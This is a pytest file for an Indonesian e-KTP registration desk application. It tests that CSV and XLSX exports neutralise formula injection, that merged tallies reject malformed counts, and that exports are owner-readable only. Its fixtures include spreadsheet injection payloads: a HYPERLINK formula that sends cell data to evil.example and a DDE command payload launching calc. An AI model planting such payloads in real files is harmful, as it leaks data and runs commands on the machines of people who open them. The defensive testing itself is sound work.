"""Files the desk writes for spreadsheets: no cell written from data is a formula (CSV or
XLSX injection), edited tallies with formula keys or negative counts are refused or
neutralised, and every export that holds names or NIKs is readable by its owner only."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ektp_desk.desk import Desk
from ektp_desk.imports import error_report_path
from ektp_desk.reports.cells import FORMULA_STARTS

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B3,"Klik")'
HEADER = "nik,nama,tanggal_lahir,jenis_kelamin,alamat,rt,rw,kelurahan\n"
ROWS = [
    # Accepted, with an address that is a formula.
    f'7271024507050001,Siti Lamakarate,2005-07-05,P,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",'
    "1,2,72.71.02.1007",
    # Rejected (bad NIK), with a name that is a formula.
    "12345,\"=cmd|' /C calc'!A0\",2005-07-05,P,Jl. A,1,2,72.71.02.1007",
    "7271020312880042,Budi Santoso,1988-12-03,L,+62 811,4,1,72.71.02.1007",
]


def _no_formula_cells(path: Path) -> list[str]:
    texts = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _assert_csv_neutral(path: Path) -> None:
    for cell in _csv_cells(path):
        assert not cell.startswith(FORMULA_STARTS), f"{path.name}: {cell!r}"


def _private(path: Path) -> None:
    if os.name == "posix":
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, f"{path.name}: {path.stat().st_mode:o}"


@pytest.fixture(autouse=True)
def usual_umask() -> Iterator[None]:
    """The usual umask, under which files come out world-readable unless made private."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_imported_formulas_stay_text_in_every_export(desk: Desk, tmp_path: Path) -> None:
    source = tmp_path / "warga.csv"
    source.write_text(HEADER + "\n".join(ROWS) + "\n", encoding="utf-8", newline="")
    result = desk.residents.import_file(source)
    assert result.imported == 2 and result.rejected == 1
    report = error_report_path(source)
    assert result.report == report
    cells = _csv_cells(report)
    assert "'=cmd|' /C calc'!A0" in cells  # the rejected name, as text with an apostrophe
    _assert_csv_neutral(report)
    _private(report)

    outreach = tmp_path / "belum-rekam.xlsx"
    assert desk.reports.export_outreach("xlsx", outreach) == 2
    texts = _no_formula_cells(outreach)
    assert HYPERLINK.upper() in texts  # the address (in capitals) is there, as a string cell
    assert "+62 811" in texts
    _private(outreach)
    pytest.importorskip("PySide6")
    from ektp_desk.ui.pdf_report import write_outreach_pdf

    desk.reports.export_outreach("pdf", tmp_path / "belum-rekam.pdf", pdf_writer=write_outreach_pdf)
    _private(tmp_path / "belum-rekam.pdf")

    today = desk.today()
    for fmt in ("csv", "xlsx", "json"):
        target = tmp_path / f"tally.{fmt}"
        desk.reports.export_tally(fmt, target, today)
        _private(target)
    _no_formula_cells(tmp_path / "tally.xlsx")
    _assert_csv_neutral(tmp_path / "tally.csv")


def _merge(tmp_path: Path, *files: Path, fmt: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "ektp_desk", "tally", "merge", *map(str, files),
         "--format", fmt, "-o", str(tmp_path / f"merged.{fmt}")],
        capture_output=True, text=True, timeout=120, check=False,
        env={**os.environ, "XDG_STATE_HOME": str(tmp_path / "state")},
    )  # fmt: skip


def _tallies(desk: Desk, tmp_path: Path) -> tuple[dict[str, object], dict[str, object]]:
    a = json.loads(json.dumps(desk.reports.tally(desk.today()).to_json()))
    b = json.loads(json.dumps(a))
    b["desk_id"] = "PALU-BARAT-2"
    return a, b


def _save(path: Path, tally: dict[str, object]) -> Path:
    path.write_text(json.dumps(tally), encoding="utf-8")
    return path


def test_merged_tallies_with_formula_keys_are_written_as_text(desk: Desk, tmp_path: Path) -> None:
    a, b = _tallies(desk, tmp_path)
    by_kelurahan = b["by_kelurahan"]
    assert isinstance(by_kelurahan, dict)
    by_kelurahan[HYPERLINK] = 3
    b["by_operator"] = {"@SUM(A1)": 2, "-2+3": 1}
    b["desk_id"] = "=1+1"
    files = (_save(tmp_path / "a.json", a), _save(tmp_path / "b.json", b))
    for fmt in ("xlsx", "csv"):
        done = _merge(tmp_path, *files, fmt=fmt)
        assert done.returncode == 0, done.stderr
        _private(tmp_path / f"merged.{fmt}")
    texts = _no_formula_cells(tmp_path / "merged.xlsx")
    assert HYPERLINK in texts and "@SUM(A1)" in texts
    cells = _csv_cells(tmp_path / "merged.csv")
    assert "'" + HYPERLINK in cells and "'@SUM(A1)" in cells and "'-2+3" in cells
    _assert_csv_neutral(tmp_path / "merged.csv")


@pytest.mark.parametrize(
    ("edit", "key"),
    [
        (lambda t: t.__setitem__("total", -1000000), "'total'"),
        (lambda t: t["by_sex"].__setitem__("PEREMPUAN", -999980), "'by_sex' -> 'PEREMPUAN'"),
        (lambda t: t["by_hour"].__setitem__("09", 1.5), "'by_hour' -> '09'"),
        (lambda t: t["queue"].__setitem__("tickets", "12"), "'queue' -> 'tickets'"),
        (lambda t: t.__setitem__("by_operator", [1, 2]), "'by_operator'"),
        (lambda t: t.__setitem__("early", True), "'early'"),
    ],
)
def test_tally_merge_refuses_counts_that_are_not_whole_and_positive(
    desk: Desk, tmp_path: Path, edit: object, key: str
) -> None:
    a, b = _tallies(desk, tmp_path)
    assert callable(edit)
    edit(b)
    files = (_save(tmp_path / "a.json", a), _save(tmp_path / "edited.json", b))
    done = _merge(tmp_path, *files, fmt="csv")
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stdout == ""
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in done.stderr, done.stderr
    assert "edited.json" in lines[0] and key in lines[0], lines[0]
    assert not (tmp_path / "merged.csv").exists()
